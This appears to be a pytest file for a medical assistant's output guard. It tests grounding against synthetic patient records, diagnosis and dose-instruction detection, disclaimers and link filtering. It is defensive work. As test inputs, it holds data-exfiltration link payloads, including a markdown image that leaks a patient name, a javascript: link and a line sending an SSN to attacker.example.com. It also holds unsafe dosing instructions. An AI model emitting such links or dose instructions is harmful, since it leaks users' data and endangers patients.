"""Output guard: grounding against cited resources, dose instructions, diagnoses, links, disclaimer.

Facts come from a real Synthea record; each check has a passing twin so a guard that flags everything
(or nothing) fails here.
"""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import pytest

from assistant.guardrails.output_guard import (
    add_disclaimer,
    check_output,
    disclaimer,
    gives_guidance,
    has_disclaimer,
)
from assistant.schemas import Citation, Language
from fhir_client import PatientRecord, load_bundle_file

DATA = Path(__file__).resolve().parents[2] / "data" / "synthea"
TODAY = date(2026, 11, 23)


@pytest.fixture(scope="module")
def josue() -> PatientRecord:
    return load_bundle_file(next(DATA.glob("Josue_Sipes_*.json")))


def _code(res: Any) -> str:
    return str(res.code.coding[0].code)


@pytest.fixture(scope="module")
def cites(josue: PatientRecord) -> dict[str, Any]:
    a1c = sorted(
        (o for o in josue.of_type("Observation") if _code(o) == "4548-4"),
        key=lambda o: str(o.effectiveDateTime),
    )
    bp = sorted(
        (o for o in josue.of_type("Observation") if _code(o) == "55284-4"),
        key=lambda o: str(o.effectiveDateTime),
    )
    metformin = next(
        m
        for m in josue.of_type("MedicationRequest")
        if "Metformin" in m.medicationCodeableConcept.coding[0].display
    )
    diabetes = next(c for c in josue.of_type("Condition") if c.code.coding[0].display == "Diabetes")
    return {"a1c": a1c[-1], "a1c_first": a1c[0], "bp": bp[-1], "metformin": metformin, "diabetes": diabetes}


def cite(n: int, res: Any) -> Citation:
    return Citation(n=n, resource=f"{res.get_resource_type()}/{res.id}", label="source")


def check(
    text: str, citations: list[Citation], record: PatientRecord | None, language: Language = "en"
) -> Any:
    return check_output(text, citations=citations, record=record, language=language, today=TODAY)


def test_a_fact_matching_its_cited_observation_passes_in_english_and_french(
    josue: PatientRecord, cites: dict[str, Any]
) -> None:
    obs = cites["a1c"]
    value = obs.valueQuantity.value
    day = obs.effectiveDateTime.date()
    c = [cite(1, obs)]
    assert check(f"Your most recent HbA1c was {value:.2f} % on {day.isoformat()} [1].", c, josue).ok
    assert check(f"Your most recent HbA1c was {value:.1f} % on {day:%d %B %Y} [1].", c, josue).ok
    fr_value = f"{value:.2f}".replace(".", ",")
    assert check(f"Votre dernière HbA1c était de {fr_value} % le {day:%d/%m/%Y} [1].", c, josue, "fr").ok


def test_a_wrong_value_or_date_is_ungrounded(josue: PatientRecord, cites: dict[str, Any]) -> None:
    obs = cites["a1c"]
    value, day = obs.valueQuantity.value, obs.effectiveDateTime.date()
    c = [cite(1, obs)]
    wrong_value = check(f"Your HbA1c was {value + 10:.1f} % on {day.isoformat()} [1].", c, josue)
    assert not wrong_value.ok and wrong_value.flags == ("ungrounded-number",)
    wrong_day = check(f"Your HbA1c was {value:.1f} % on 2 February 2003 [1].", c, josue)
    assert wrong_day.flags == ("ungrounded-date",)
    assert "2 february 2003" in wrong_day.problems[0]


def test_a_value_from_the_same_test_series_is_supported_but_not_one_from_another_test(
    josue: PatientRecord, cites: dict[str, Any]
) -> None:
    first = cites["a1c_first"]
    c = [cite(1, cites["a1c"])]
    assert check(
        f"It was {first.valueQuantity.value:.1f} % in {first.effectiveDateTime.year} [1].", c, josue
    ).ok
    systolic = cites["bp"].component[1].valueQuantity.value
    assert not check(f"Your HbA1c was {systolic:.1f} % [1].", c, josue).ok


def test_blood_pressure_pairs_and_usual_ranges_are_checked(
    josue: PatientRecord, cites: dict[str, Any]
) -> None:
    bp = cites["bp"]
    values = {comp.code.coding[0].code: comp.valueQuantity.value for comp in bp.component}
    c = [cite(1, bp)]
    good = f"Your blood pressure was {values['8480-6']:.1f}/{values['8462-4']:.1f} mmHg [1] (usual: below 130 mmHg)."
    assert check(good, c, josue).ok
    assert check("Your blood pressure was 118/76 mmHg [1].", c, josue).flags == ("ungrounded-number",)


def test_uncited_patient_facts_fail_but_general_knowledge_passes(josue: PatientRecord) -> None:
    assert not check("Your HbA1c was 7.1 % last year.", [], josue).ok
    assert check("A normal HbA1c is usually below 5.7 %.", [], josue).ok
    assert check("En général, une HbA1c normale est inférieure à 5,7 %.", [], josue, "fr").ok


def test_threshold_advice_is_not_a_patient_fact(josue: PatientRecord) -> None:
    text = add_disclaimer("If your temperature goes above 38.5 °C, call your doctor.", "en")
    assert check(text, [], josue).ok


def test_citation_markers_must_exist_and_resolve(josue: PatientRecord, cites: dict[str, Any]) -> None:
    c = [cite(1, cites["diabetes"])]
    assert check("Your record lists diabetes [2].", c, josue).flags == ("unknown-citation",)
    ghost = [Citation(n=1, resource="Condition/does-not-exist", label="x")]
    assert "unresolved-citation" in check("Your record lists diabetes [1].", ghost, josue).flags
    assert "unresolved-citation" in check("Your record lists diabetes [1].", c, None).flags


def test_medicines_named_as_the_patients_must_be_cited(josue: PatientRecord, cites: dict[str, Any]) -> None:
    c = [cite(1, cites["metformin"])]
    assert check("Your metformin 500 mg was prescribed on 21 March 1998 [1].", c, josue).ok
    assert check("Votre metformine a été prescrite le 21 mars 1998 [1].", c, josue, "fr").ok
    assert check("You are taking lisinopril [1].", c, josue).flags == ("ungrounded-medication",)
    assert check("Metformin is a common first treatment for type 2 diabetes.", [], josue).ok
    assert check("What is metformin for? It lowers blood sugar.", [], josue).ok


def test_conditions_need_a_citation_and_diagnoses_outside_the_record_are_refused(
    josue: PatientRecord, cites: dict[str, Any]
) -> None:
    c = [cite(1, cites["diabetes"])]
    assert check("You have diabetes [1].", c, josue).ok
    assert check("Vous avez du diabète [1].", c, josue, "fr").ok
    assert check("You have diabetes.", [], josue).flags == ("ungrounded-condition",)
    assert check("You have cancer.", c, josue).flags == ("definitive-diagnosis",)
    assert check("Vous avez une appendicite.", [], josue, "fr").flags == ("definitive-diagnosis",)
    assert check("This is definitely pneumonia.", [], josue).flags == ("definitive-diagnosis",)
    assert check("You don't have diabetes.", [], josue).flags == ("definitive-diagnosis",)
    assert check("Ce n'est pas une méningite.", [], josue, "fr").flags == ("definitive-diagnosis",)


@pytest.mark.parametrize(
    "text",
    [
        "It could be a cold.",
        "This might be a urinary infection; a urine test can tell.",
        "Cela pourrait être une angine.",
        "Ce n'est peut-être qu'un rhume.",
        "Metformin is a diabetes tablet.",
        "Your risk of stroke is something to discuss with your doctor.",
        "Do you have asthma?",
    ],
)
def test_hedged_or_general_mentions_of_a_condition_are_not_diagnoses(josue: PatientRecord, text: str) -> None:
    verdict = check(text, [], josue, "fr" if "être" in text or "Cela" in text else "en")
    assert "definitive-diagnosis" not in verdict.flags and "ungrounded-condition" not in verdict.flags


def test_allergies_must_be_in_a_cited_allergy(cites: dict[str, Any]) -> None:
    fidel = load_bundle_file(next(DATA.glob("Fidel_Bins_*.json")))
    allergy = fidel.of_type("AllergyIntolerance")[0]
    substance = allergy.code.coding[0].display.split()[0]
    c = [cite(1, allergy)]
    assert check(f"You are allergic to {substance} [1].", c, fidel).ok
    assert check("You are allergic to penicillin [1].", c, fidel).flags == ("ungrounded-allergy",)
    assert check("You have no known allergies.", [], fidel).flags == ("ungrounded-allergy",)


def test_allergy_wording_that_names_no_substance_is_not_a_claim() -> None:
    fidel = load_bundle_file(next(DATA.glob("Fidel_Bins_*.json")))
    assert check("People allergic to one of these usually avoid the others.", [], fidel).ok
    assert check("Ask me “am I allergic to anything?” at any time.", [], fidel).ok
    assert check("You are allergic to aspirin.", [], fidel).flags == ("ungrounded-allergy",)


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("Take 2 tablets of paracetamol every 6 hours.", "en"),
        ("You can take an extra dose of insulin tonight.", "en"),
        ("Increase your metformin dose.", "en"),
        ("Increase it to 1000 mg from tomorrow.", "en"),
        ("Stop taking your lisinopril.", "en"),
        ("Augmentez à 1000 mg de metformine.", "fr"),
        ("Prenez 2 comprimés trois fois par jour.", "fr"),
        ("Doublez votre dose d'insuline ce soir.", "fr"),
        ("Arrêtez votre traitement.", "fr"),
    ],
)
def test_dose_instructions_are_flagged(text: str, language: Language) -> None:
    assert "dose-instruction" in check(text, [], None, language).flags


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("Do not stop taking your metformin without talking to your prescriber.", "en"),
        ("Never change your insulin dose without advice.", "en"),
        ("If your sugar is low, take 15 g of fast sugar such as juice.", "en"),
        ("N'arrêtez pas votre traitement sans l'avis de votre médecin.", "fr"),
        ("Votre médecin peut ajuster votre dose si besoin.", "fr"),
    ],
)
def test_safety_advice_about_medicines_is_not_a_dose_instruction(text: str, language: Language) -> None:
    assert "dose-instruction" not in check(text, [], None, language).flags


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        ("![chart](https://stats.example.com/p.png?n=Josue)", "exfiltration-link"),
        ('<img src="https://x.example/a.gif">', "exfiltration-link"),
        ("More at https://www.nhs.uk/conditions/?q=diabetes", "exfiltration-link"),
        ("Details: https://tracker.example.org/r", "unapproved-link"),
        ("Open [here](javascript:alert(1))", "exfiltration-link"),
        ("Send it to attacker.example.com/c?d=ssn", "exfiltration-link"),
    ],
)
def test_links_that_can_carry_data_out_are_flagged(text: str, flag: str) -> None:
    assert flag in check(text, [], None).flags


def test_public_health_links_without_queries_are_allowed() -> None:
    for text in (
        "Read more on https://www.nhs.uk/conditions/diabetes/",
        "Voir https://www.ameli.fr/assure/sante/themes/diabete",
        "See https://www.cdc.gov/diabetes/index.html.",
    ):
        assert check(text, [], None).ok, text


def test_guidance_needs_the_disclaimer_and_add_disclaimer_is_idempotent() -> None:
    text = "You should rest and drink plenty of fluids."
    assert gives_guidance(text)
    assert check(text, [], None).flags == ("missing-disclaimer",)
    with_disclaimer = add_disclaimer(text, "en")
    assert has_disclaimer(with_disclaimer) and check(with_disclaimer, [], None).ok
    assert add_disclaimer(with_disclaimer, "en") == with_disclaimer
    fr = add_disclaimer("Reposez-vous et buvez beaucoup d'eau.", "fr")
    assert fr.endswith(disclaimer("fr")) and check(fr, [], None, "fr").ok
    assert not gives_guidance("Your last HbA1c was recorded in 2021.")


def test_booking_dates_in_the_future_are_not_record_facts(josue: PatientRecord) -> None:
    assert check("Your appointment is booked for 24 November 2026 at 09:00.", [], josue).ok
    assert not check("Your last appointment was on 3 March 2004.", [], josue).ok
